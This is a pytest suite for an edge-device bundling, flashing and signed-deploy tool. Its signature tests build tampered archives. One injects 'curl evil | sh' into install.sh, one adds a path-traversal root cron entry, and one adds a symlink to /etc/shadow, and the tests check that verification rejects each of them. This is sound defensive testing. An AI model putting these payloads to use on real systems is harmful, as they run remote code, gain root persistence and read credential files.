"""Bundle assembly (with a fake wheelhouse: no network), flash onto a fake boot partition, and deploy's refusals
with a local stand-in for ssh."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from edgefer.compile.boards import BundleError, board_requirements, get_board
from edgefer.compile.bundle import build_bundle, read_manifest
from edgefer.compile.deploy import DeployError, check_bootfs, deploy, flash


def _fake_wheel(folder: Path, name: str, tag: str = "py3-none-any") -> None:
    (folder / f"{name}-1.0-{tag}.whl").write_bytes(b"not really a wheel")


@pytest.fixture(scope="module")
def project_wheel(tmp_path_factory) -> Path:
    from edgefer.compile.boards import build_project_wheel

    return build_project_wheel(tmp_path_factory.mktemp("wheel"))


@pytest.fixture(scope="module")
def rpi_bundle(tmp_path_factory, project_wheel) -> Path:
    wheelhouse = tmp_path_factory.mktemp("wheelhouse")
    for req in board_requirements(get_board("rpi"), project_wheel):
        _fake_wheel(wheelhouse, req.split("<")[0].split(">")[0].split("=")[0].replace("-", "_"))
    out = tmp_path_factory.mktemp("bundle") / "edgefer-rpi.tar.gz"
    build_bundle("rpi", out, wheelhouse=wheelhouse, offline=True, project_wheel=project_wheel)
    return out


def test_project_wheel_holds_the_runtime_and_detectors(project_wheel):
    import zipfile

    names = zipfile.ZipFile(project_wheel).namelist()
    assert "edgefer/edge/backends/edgetpu.py" in names and "edgefer/edge/backends/tensorrt.py" in names
    assert "edgefer/models/detectors/face_detection_short_range.tflite" in names


def test_rpi_bundle_is_self_contained(rpi_bundle):
    manifest = read_manifest(rpi_bundle)
    assert manifest["board"] == "rpi" and manifest["python"] == "3.11" and manifest["target"] == "rpi"
    with tarfile.open(rpi_bundle) as tar:
        names = set(tar.getnames())
        install = tar.extractfile("edgefer-rpi/install.sh").read().decode()
        sidecar = json.load(tar.extractfile("edgefer-rpi/models/fer-student.json"))
    for part in ("install.sh", "SHA256SUMS", "config/config.yaml", "systemd/edgefer.service",
                 "systemd/journald-edgefer.conf", "models/fer-student.tflite", "coral/99-edgetpu-accelerator.rules"):
        assert f"edgefer-rpi/{part}" in names
    assert any(n.startswith("edgefer-rpi/wheelhouse/edgefer-") for n in names)
    assert sidecar["target"] == "rpi"
    assert "--no-index" in install and "aarch64" in install and "3.11" in install
    assert "video gpio dialout" in install


def test_bundle_refuses_missing_and_foreign_wheels(tmp_path, project_wheel):
    with pytest.raises(BundleError, match="no wheel for"):
        build_bundle("rpi", tmp_path / "b.tar.gz", wheelhouse=tmp_path, offline=True, project_wheel=project_wheel)
    _fake_wheel(tmp_path, "numpy", "cp311-cp311-manylinux_2_17_x86_64")
    with pytest.raises(BundleError, match="another platform"):
        build_bundle("rpi", tmp_path / "b.tar.gz", wheelhouse=tmp_path, offline=True, project_wheel=project_wheel)
    with pytest.raises(BundleError, match="unknown board"):
        build_bundle("pc", tmp_path / "b.tar.gz")


def test_jetson_bundle_needs_compiled_models(tmp_path, project_wheel):
    wheelhouse = tmp_path / "wh"
    wheelhouse.mkdir()
    for req in board_requirements(get_board("jetson"), project_wheel):
        _fake_wheel(wheelhouse, req.split("<")[0].split(">")[0].split("=")[0].replace("-", "_"))
    assert "opencv-python-headless" not in " ".join(board_requirements(get_board("jetson"), project_wheel))
    with pytest.raises(BundleError, match="edgefer compile --target jetson"):
        build_bundle("jetson", tmp_path / "j.tar.gz", wheelhouse=wheelhouse, offline=True, project_wheel=project_wheel)


def _bootfs(root: Path, kernels: tuple[str, ...] = ("kernel8.img", "kernel_2712.img")) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    (root / "config.txt").write_text("[all]\narm_64bit=1\n")
    (root / "cmdline.txt").write_text("console=serial0,115200 root=PARTUUID=abcd-02 rootwait\n")
    for k in kernels:
        (root / k).write_bytes(b"")
    return root


def test_flash_refuses_a_folder_that_is_not_a_boot_partition(tmp_path, rpi_bundle):
    with pytest.raises(DeployError, match="not a Raspberry Pi boot partition"):
        flash(tmp_path, bundle=rpi_bundle)
    with pytest.raises(DeployError, match="not a folder"):
        flash(tmp_path / "nope", bundle=rpi_bundle)


def test_flash_refuses_32_bit_and_too_little_space(tmp_path, rpi_bundle):
    with pytest.raises(DeployError, match="32-bit"):
        flash(_bootfs(tmp_path / "b32", kernels=("kernel7l.img",)), bundle=rpi_bundle)
    with pytest.raises(DeployError, match="MB free"):
        check_bootfs(_bootfs(tmp_path / "small"), need_bytes=10**15)


def test_flash_writes_bundle_and_first_boot_installer(tmp_path, rpi_bundle):
    boot = _bootfs(tmp_path / "bootfs")
    result = flash(boot, bundle=rpi_bundle)
    assert (boot / "edgefer" / rpi_bundle.name).stat().st_size == rpi_bundle.stat().st_size
    firstboot = (boot / "edgefer" / "firstboot.sh").read_text()
    assert "install.sh" in firstboot and "sed -i" in firstboot
    cmdline = (boot / "cmdline.txt").read_text()
    assert cmdline.count("\n") == 1 and "systemd.run=/boot/firmware/edgefer/firstboot.sh" in cmdline
    assert "rootwait" in result["cmdline"]
    flash(boot, bundle=rpi_bundle)  # again: idempotent, one entry
    assert (boot / "cmdline.txt").read_text().count("systemd.run=") == 1


class FakeRunner:
    """Answers the probe like a board would; records what deploy copies and runs."""

    def __init__(self, arch: str = "aarch64", python: str = "3.11", free_kb: int = 10_000_000) -> None:
        self.host = "pi@car"
        self.answer = f"{arch}\n{python}\n/dev/root 30000000 1000 {free_kb} 1% /\n"
        self.commands: list[str] = []
        self.copied: list[tuple[Path, str]] = []

    def run(self, command: str) -> subprocess.CompletedProcess:
        self.commands.append(command)
        return subprocess.CompletedProcess(command, 0, self.answer if "uname" in command else "installed", "")

    def copy(self, local: Path, remote: str) -> subprocess.CompletedProcess:
        self.copied.append((local, remote))
        return subprocess.CompletedProcess("scp", 0, "", "")


@pytest.mark.parametrize(("runner", "message"), [
    (FakeRunner(arch="x86_64"), "is x86_64"),
    (FakeRunner(arch="armv7l"), "is armv7l"),
    (FakeRunner(python="3.13"), "Python 3.13"),
    (FakeRunner(free_kb=1000), "MB free"),
])
def test_deploy_refuses_the_wrong_board(runner, message, rpi_bundle):
    with pytest.raises(DeployError, match=message):
        deploy(runner, bundle=rpi_bundle)
    assert runner.copied == []


def test_deploy_refuses_wrong_arch_before_building(tmp_path):
    with pytest.raises(DeployError, match="is x86_64"):
        deploy(FakeRunner(arch="x86_64"))


def test_deploy_copies_and_installs(rpi_bundle):
    runner = FakeRunner()
    result = deploy(runner, bundle=rpi_bundle)
    assert result["installed"] and runner.copied[0][1] == f"/var/tmp/{rpi_bundle.name}"
    assert "sudo -n sh edgefer-rpi/install.sh" in runner.commands[-1]
    dry = FakeRunner()
    assert not deploy(dry, bundle=rpi_bundle, dry_run=True)["installed"] and dry.copied == []


# --- signed bundles (real ed25519 keys made here; edge/signing.py, edge/updates.py) -----------------------------


@pytest.fixture(scope="module")
def fleet_keys(tmp_path_factory) -> dict[str, Path]:
    from edgefer.edge.signing import generate_keypair

    root = tmp_path_factory.mktemp("keys")
    fleet, other = generate_keypair(root / "fleet"), generate_keypair(root / "other")
    return {"private": Path(fleet["private"]), "public": Path(fleet["public"]), "id": fleet["key_id"],
            "other_public": Path(other["public"]), "other_id": other["key_id"]}


@pytest.fixture(scope="module")
def signed_bundle(tmp_path_factory, project_wheel, fleet_keys) -> Path:
    wheelhouse = tmp_path_factory.mktemp("wheelhouse-signed")
    for req in board_requirements(get_board("rpi"), project_wheel):
        _fake_wheel(wheelhouse, req.split("<")[0].split(">")[0].split("=")[0].replace("-", "_"))
    out = tmp_path_factory.mktemp("signed") / "edgefer-rpi.tar.gz"
    result = build_bundle("rpi", out, wheelhouse=wheelhouse, offline=True, project_wheel=project_wheel,
                          sign_key=fleet_keys["private"])
    assert result["signed_by"] == fleet_keys["id"] and result["signature"] == f"{out}.sig"
    return out


def _key(path: Path):
    from edgefer.edge.signing import load_public_key

    return load_public_key(path)


def _repack(bundle: Path, dest: Path, change=None, drop: tuple[str, ...] = (), add: dict | None = None,
            link: str | None = None) -> Path:
    """A copy of ``bundle`` as an attacker would make it: same members in the same order, ``change(name, data)``
    applied to each file, ``drop`` left out, ``add`` (name -> bytes) and a symlink ``link`` appended."""
    import io

    with tarfile.open(bundle) as src, tarfile.open(dest, "w:gz") as out:
        for member in src.getmembers():
            if member.name in drop:
                continue
            data = src.extractfile(member).read() if member.isfile() else None
            if data is not None and change is not None:
                data = change(member.name, data)
                member.size = len(data)
            out.addfile(member, io.BytesIO(data) if data is not None else None)
        for name, data in (add or {}).items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            out.addfile(info, io.BytesIO(data))
        if link:
            info = tarfile.TarInfo(link)
            info.type, info.linkname = tarfile.SYMTYPE, "/etc/shadow"
            out.addfile(info)
    return dest


def test_signed_bundle_carries_key_signatures_and_every_model(signed_bundle, fleet_keys):
    from edgefer.edge.signing import verify_model
    from edgefer.edge.updates import verify_bundle

    with tarfile.open(signed_bundle) as tar:
        names = set(tar.getnames())
        assert tar.extractfile("edgefer-rpi/trusted.pub").read() == fleet_keys["public"].read_bytes()
        config = tar.extractfile("edgefer-rpi/config/config.yaml").read().decode()
        install = tar.extractfile("edgefer-rpi/install.sh").read().decode()
    for model in ("fer-student", "eye-state", "yawn", "head-pose"):  # the rpi config names them under /opt/edgefer
        assert {f"edgefer-rpi/models/{model}.tflite", f"edgefer-rpi/models/{model}.tflite.sig"} <= names
        assert f"/opt/edgefer/models/{model}.tflite" in config
    assert "edgefer-rpi/SHA256SUMS.sig" in names and read_manifest(signed_bundle)["signed_by"] == fleet_keys["id"]
    assert 'install -m 0644 trusted.pub "$KEY"' in install and "unsigned bundle" in install
    result = verify_bundle(signed_bundle, _key(fleet_keys["public"]))
    assert result["detached_signature"] and result["key_id"] == fleet_keys["id"]
    with tarfile.open(signed_bundle) as tar:  # the unpacked folder install.sh runs from verifies too
        tar.extractall(signed_bundle.parent / "unpacked", filter="data")
    top = signed_bundle.parent / "unpacked" / "edgefer-rpi"
    assert verify_bundle(top, _key(fleet_keys["public"]))["files"] > 10
    assert verify_model(top / "models" / "yawn.tflite", _key(fleet_keys["public"])) == fleet_keys["id"]


def test_one_flipped_byte_in_the_bundle_is_refused(signed_bundle, fleet_keys, tmp_path):
    from edgefer.edge.signing import SignatureError
    from edgefer.edge.updates import verify_bundle

    copy = tmp_path / signed_bundle.name
    shutil.copyfile(signed_bundle, copy)
    shutil.copyfile(f"{signed_bundle}.sig", f"{copy}.sig")
    data = bytearray(copy.read_bytes())
    data[len(data) // 2] ^= 0x01
    copy.write_bytes(bytes(data))
    with pytest.raises(SignatureError, match=r"edgefer-rpi.tar.gz: changed after it was signed .* tampered"):
        verify_bundle(copy, _key(fleet_keys["public"]))


def test_a_repacked_bundle_is_refused_without_its_detached_signature(signed_bundle, fleet_keys, tmp_path):
    """The archive alone (what flash and deploy copy): the signed SHA256SUMS inside still catches each change."""
    from edgefer.edge.signing import SignatureError
    from edgefer.edge.updates import verify_bundle

    key = _key(fleet_keys["public"])

    def evil_install(name: str, data: bytes) -> bytes:
        return data.replace(b"set -eu", b"set -eu; curl evil | sh", 1) if name.endswith("/install.sh") else data

    def flip_model(name: str, data: bytes) -> bytes:
        return data[:100] + bytes([data[100] ^ 1]) + data[101:] if name.endswith("models/yawn.tflite") else data

    cases = [
        (dict(change=evil_install), r"install.sh: changed after the bundle was signed"),
        (dict(change=flip_model), r"models/yawn.tflite: changed after the bundle was signed"),
        (dict(add={"edgefer-rpi/systemd/evil.service": b"[Service]\n"}), r"evil.service: not in the signed SHA256SUMS"),
        (dict(drop=("edgefer-rpi/models/yawn.tflite.sig",)), r"yawn.tflite.sig: listed in the signed SHA256SUMS"),
        (dict(link="edgefer-rpi/config/link"), r"link.* is a link or device"),
        (dict(add={"edgefer-rpi/../etc/cron.d/evil": b"* * * * * root sh\n"}), r"escapes the bundle folder"),
        (dict(drop=("edgefer-rpi/SHA256SUMS.sig",)), r"unsigned bundle \(no SHA256SUMS.sig\)"),
        (dict(change=lambda n, d: d + b"0" * 64 + b"  extra\n" if n.endswith("/SHA256SUMS") else d),
         r"SHA256SUMS: changed after it was signed .* tampered or corrupt file list"),
    ]
    for i, (how, message) in enumerate(cases):
        bad = _repack(signed_bundle, tmp_path / f"bad{i}.tar.gz", **how)
        with pytest.raises(SignatureError, match=message):
            verify_bundle(bad, key)
    with pytest.raises(SignatureError, match=f"signed by key {fleet_keys['id']}, but the trusted key is "
                                             f"{fleet_keys['other_id']}"):
        verify_bundle(signed_bundle, _key(fleet_keys["other_public"]))


def test_bundle_sign_refuses_a_public_key_before_building(tmp_path, fleet_keys, project_wheel):
    with pytest.raises(BundleError, match="--sign: .*a public key; signing needs the private key"):
        build_bundle("rpi", tmp_path / "b.tar.gz", wheelhouse=tmp_path, offline=True, project_wheel=project_wheel,
                     sign_key=fleet_keys["public"])


def test_deploy_has_the_board_verify_the_bundle_before_unpacking(signed_bundle):
    runner = FakeRunner()
    deploy(runner, bundle=signed_bundle)
    command = runner.commands[-1]
    verify = "/opt/edgefer/venv/bin/edgefer verify --key /etc/edgefer/trusted.pub edgefer-rpi.tar.gz"
    assert verify in command and command.index(verify) < command.index("tar -xzf")

    class RefusingBoard(FakeRunner):
        def run(self, command: str) -> subprocess.CompletedProcess:
            if "tar -xzf" not in command:
                return super().run(command)
            self.commands.append(command)
            return subprocess.CompletedProcess(command, 2, "", "edgefer verify: edgefer-rpi.tar.gz: unsigned bundle "
                                                              "(no SHA256SUMS.sig)\n")

    with pytest.raises(DeployError, match="pi@car refused the bundle: edgefer-rpi.tar.gz: unsigned bundle"):
        deploy(RefusingBoard(), bundle=signed_bundle)
    with pytest.raises(DeployError, match="--sign signs a bundle built now"):
        deploy(FakeRunner(), bundle=signed_bundle, sign_key="fleet.key")


def test_install_sh_takes_only_bundles_signed_by_the_device_key(signed_bundle, fleet_keys, tmp_path):
    """install.sh's key block, run for real with sh on the unpacked signed bundle: the device key absent (first
    install), the same key (verified with the installed edgefer), another key, and the bundle unsigned."""
    with tarfile.open(signed_bundle) as tar:
        tar.extractall(tmp_path / "b", filter="data")
        install = tar.extractfile("edgefer-rpi/install.sh").read().decode()
    here = tmp_path / "b" / "edgefer-rpi"
    assert subprocess.run(["sh", "-n", str(here / "install.sh")]).returncode == 0
    block = install[install.index("KEY=/etc/edgefer/trusted.pub"):install.index("\nfor g in")]
    device_key = tmp_path / "etc" / "trusted.pub"
    block = block.replace("KEY=/etc/edgefer/trusted.pub", f"KEY={device_key}")
    prefix = tmp_path / "opt"
    (prefix / "venv" / "bin").mkdir(parents=True)
    edgefer = prefix / "venv" / "bin" / "edgefer"  # the installed edgefer: this checkout's CLI
    edgefer.write_text(f"#!/bin/sh\nexec {sys.executable} -m edgefer \"$@\"\n")
    edgefer.chmod(0o755)

    def run_block() -> subprocess.CompletedProcess:
        script = f'set -eu\ndie() {{ echo "$*" >&2; exit 1; }}\nHERE={here}\nPREFIX={prefix}\ncd "$HERE"\n{block}\n'
        return subprocess.run(["sh", "-c", script], capture_output=True, text=True)

    assert run_block().returncode == 0  # no device key yet: the first install brings it
    device_key.parent.mkdir()
    shutil.copyfile(fleet_keys["public"], device_key)
    assert run_block().returncode == 0, run_block().stderr
    (here / "models" / "yawn.tflite").write_bytes(b"TFL3 swapped")  # tampered after unpacking
    refused = run_block()
    assert refused.returncode == 1 and "models/yawn.tflite: changed after the bundle was signed" in refused.stderr
    shutil.copyfile(fleet_keys["other_public"], device_key)
    assert "signed by another key than the device's" in run_block().stderr
    (here / "SHA256SUMS.sig").unlink()
    assert "unsigned bundle: this device only installs bundles signed by its key" in run_block().stderr
